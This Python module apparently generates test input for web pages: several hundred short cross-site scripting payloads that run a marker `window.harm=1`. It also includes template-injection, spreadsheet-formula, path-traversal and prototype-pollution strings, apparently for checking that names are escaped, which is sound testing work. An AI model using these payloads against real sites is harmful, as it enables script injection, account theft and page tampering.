"""Text that would do harm on a page that took it for anything but text: several hundred ways to run `window.harm=1`."""

from __future__ import annotations

from itertools import product

HARM = "window.harm=1"
HANDLED = {
    "img src=x": ("error", "load"),
    "svg": ("load", "focusin", "begin"),
    "body": ("load", "pageshow", "hashchange"),
    "video src=x": ("error", "loadstart"),
    "audio src=x": ("error", "loadstart"),
    "input autofocus": ("focus", "blur", "input"),
    "select autofocus": ("focus",),
    "textarea autofocus": ("focus",),
    "details open": ("toggle",),
    "marquee": ("start",),
    "iframe src=/": ("load",),
    "object data=x": ("error",),
    "embed src=/": ("load",),
    "a tabindex=1": ("focus", "mouseover", "click"),
    "div": ("mouseover", "wheel", "animationstart"),
    "b contenteditable": ("focus", "beforeinput"),
    "p id=x": ("mouseenter", "copy"),
}
"""Elements, and the events at which they would run something by themselves or as soon as they are touched."""
WRITTEN = ("<{0} on{1}={2}>", '<{0} on{1}="{2}">', "<{0} on{1}='{2}'>", "<{0}/on{1}={2}//", "<{0}\non{1}={2}>")
BEFORE = ("", '">', "'>", "-->", "</script>", "</title>", "</textarea>", "</style>", "]]>")
ENTIRE = (
    f"<script>{HARM}</script>",
    f"<SCRIPT>{HARM}</SCRIPT>",
    f"<scr<script>ipt>{HARM}</script>",
    f"<script>{HARM}//",
    f"<script type=module>{HARM}</script>",
    f"<script src=data:,{HARM}></script>",
    f"<svg><script>{HARM}</script></svg>",
    f"<svg><a xlink:href=javascript:{HARM}>x</a>",
    f"<svg><set onbegin={HARM} attributename=x>",
    f"<math href=javascript:{HARM}>x</math>",
    f"<iframe srcdoc='<script>parent.{HARM}</script>'>",
    f"<iframe src=javascript:{HARM}>",
    f"<form action=javascript:{HARM}><button>x",
    f"<button formaction=javascript:{HARM}>x",
    f"<a href=javascript:{HARM}>x</a>",
    f"<a href='java\tscript:{HARM}'>x</a>",
    f"<a href=&#106;avascript:{HARM}>x</a>",
    f"<base href=javascript:{HARM}//>",
    f"<meta http-equiv=refresh content=0;javascript:{HARM}>",
    f"<link rel=stylesheet href=javascript:{HARM}>",
    "<style>*{background:url(javascript:x)}</style>",
    "<style>@import 'javascript:x';</style>",
    "<b style=animation:x onanimationend=x>",
    f"<template><script>{HARM}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HARM}>'>",
    f"<!--><img src=x onerror={HARM}>-->",
    f"<![CDATA[<script>{HARM}</script>]]>",
    f"<?xml?><x:script xmlns:x='x'>{HARM}</x:script>",
)
TYPED = (
    f"javascript:{HARM}",
    f"JaVaScRiPt:{HARM}",
    f"data:text/html,<script>{HARM}</script>",
    f"vbscript:{HARM}",
    f"[x](javascript:{HARM})",
    f"![x](javascript:{HARM})",
    f"[x]: javascript:{HARM}",
    f"<javascript:{HARM}>",
    f"{{{{{HARM}}}}}",
    f"${{{HARM}}}",
    f"#{{{HARM}}}",
    f"<%= {HARM} %>",
    f"{{@html '<script>{HARM}</script>'}}",
    f"{{#if {HARM}}}x{{/if}}",
    f"`{HARM}`",
    f"';{HARM};'",
    f'";{HARM};"',
    f"\\u003cscript\\u003e{HARM}",
    f"&lt;script&gt;{HARM}&lt;/script&gt;",
    f"&#60;script&#62;{HARM}",
    f"%3Cscript%3E{HARM}%3C/script%3E",
    f"+ADw-script+AD4-{HARM}",
    f"<script>{HARM}</script>",
    "__proto__",
    "constructor.constructor('x')()",
    "=cmd()",
    "@SUM(1)",
    "..%2f..%2fetc",
    "*/alert(1)/*",
    "expression(window.harm=1)",
)
MOST = 64
"""Characters a name may have."""


def corpus() -> list[str]:
    """Every one of them, each short enough for a name."""
    found = [*ENTIRE, *TYPED]
    for (element, events), form in product(HANDLED.items(), WRITTEN):
        found += [form.format(element, event, HARM) for event in events]
    for start, (element, events) in product(BEFORE[1:], HANDLED.items()):
        found += [start + WRITTEN[0].format(element, event, HARM) for event in events]
    for start, entire in product(BEFORE[1:], ENTIRE):
        found.append(start + entire)
    # Names are one line: what breaks lines is written with spaces.
    return list(dict.fromkeys(" ".join(text.split()) for text in found if len(text) <= MOST))
